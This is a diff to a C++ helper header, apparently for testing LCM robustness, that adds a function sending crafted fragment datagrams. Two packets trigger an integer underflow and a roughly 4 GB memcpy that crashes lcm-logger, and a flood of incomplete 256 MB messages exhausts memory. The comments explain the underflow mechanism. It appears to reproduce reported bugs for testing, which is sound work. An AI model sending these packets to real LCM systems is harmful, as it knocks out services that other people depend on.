@@ -124,6 +124,37 @@ inline std::vector<uint8_t> FragmentDatagram(uint32_t seqno, uint32_t message_si
   return packet;
 }
 
+// Issue 16/23 fragment attacks on one channel; returns the datagrams sent.
+// 1. The two datagrams that crash LCM's _recv_message_fragment (lcm-logger
+// 1.3.1 on the same port: exit 139): fragment 1 carrying a short channel
+// name, then a header-only fragment 0 with offset 11 of the same message.
+// LCM reads the name again from the stale bytes past the second packet,
+// frag_size = 0 - 7 underflows, 11 + frag_size wraps below 100, and memcpy
+// copies about 4 GB.
+// 2. `fragments` fragments of a message on channel declared as 256 MB, never
+// completed (LCM allocates the whole message and keeps it: RSS 7 -> 101 MB
+// after 1500). seqno tells attacks on several channels apart.
+inline int SendFragmentAttack(RawMulticastSender* attacker, const std::string& channel, int fragments, uint32_t seqno) {
+  int sent = 0;
+  const std::vector<uint8_t> short_name = {'S', 'T', 'R', 'A', 'I', 'N', 0};
+  if (attacker->Send(FragmentDatagram(seqno, 100, 0, 1, 2, short_name))) ++sent;
+  if (attacker->Send(FragmentDatagram(seqno, 100, 11, 0, 2, {}))) ++sent;
+  std::vector<uint8_t> name(channel.begin(), channel.end());
+  name.push_back(0);
+  const uint32_t declared = 256u << 20;
+  const std::vector<uint8_t> body(65000, 0x5A);
+  for (int i = 0; i < fragments; ++i) {
+    std::vector<uint8_t> fragment_body;
+    if (i == 0) fragment_body = name;
+    fragment_body.insert(fragment_body.end(), body.begin(), body.end());
+    if (attacker->Send(FragmentDatagram(seqno + 1, declared, static_cast<uint32_t>(i) * 65000u,
+                                        static_cast<uint16_t>(i), 4130, fragment_body))) {
+      ++sent;
+    }
+  }
+  return sent;
+}
+
 // Resident set size of a process [kB] (VmRSS in /proc/<pid>/status); -1 if unknown.
 inline int64_t ResidentKb(int pid) {
   std::ifstream status("/proc/" + std::to_string(pid) + "/status");
